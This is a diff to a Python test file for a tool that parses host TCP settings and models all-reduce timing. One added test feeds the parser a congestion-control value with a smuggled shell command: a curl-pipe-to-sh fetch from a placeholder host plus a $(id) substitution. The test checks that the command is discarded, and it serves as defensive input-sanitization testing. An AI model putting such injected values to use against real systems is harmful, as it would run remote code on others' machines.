@@ -243,6 +243,21 @@ def test_settings_are_read_and_what_is_missing_is_unknown(tmp_path: Path) -> Non
     assert HostSettings.from_texts(settings.read(tmp_path / "nowhere")) == HostSettings()
 
 
+def test_words_of_another_host_cannot_become_commands() -> None:
+    theirs = HostSettings.from_texts(
+        {"tcp_allowed_congestion_control": 'cubic";curl${IFS}x.y|sh;" reno $(id) bbr'}
+    )
+    assert theirs.allowed == ("reno", "bbr")
+
+
+def test_a_model_takes_what_pccl_opens_by_itself() -> None:
+    near = way(100, 1600, round_trip=1e-4)
+    [_, seconds] = model_lines(near, 1e9, 4)
+    one = advice.seconds_per_all_reduce(4e9, near.rows[0].carried, 2)
+    assert near.rows[0].carried < near.rows[1].carried
+    assert f"world 2: {one:,.3g} s" in seconds
+
+
 @pytest.mark.parametrize("texts", [None, [1], {"tcp_wmem": 3}, {"tcp_rmem": "1 2"}, {"x": "y"}])
 def test_nonsense_is_unknown(texts: object) -> None:
     assert HostSettings.from_texts(texts) == HostSettings()
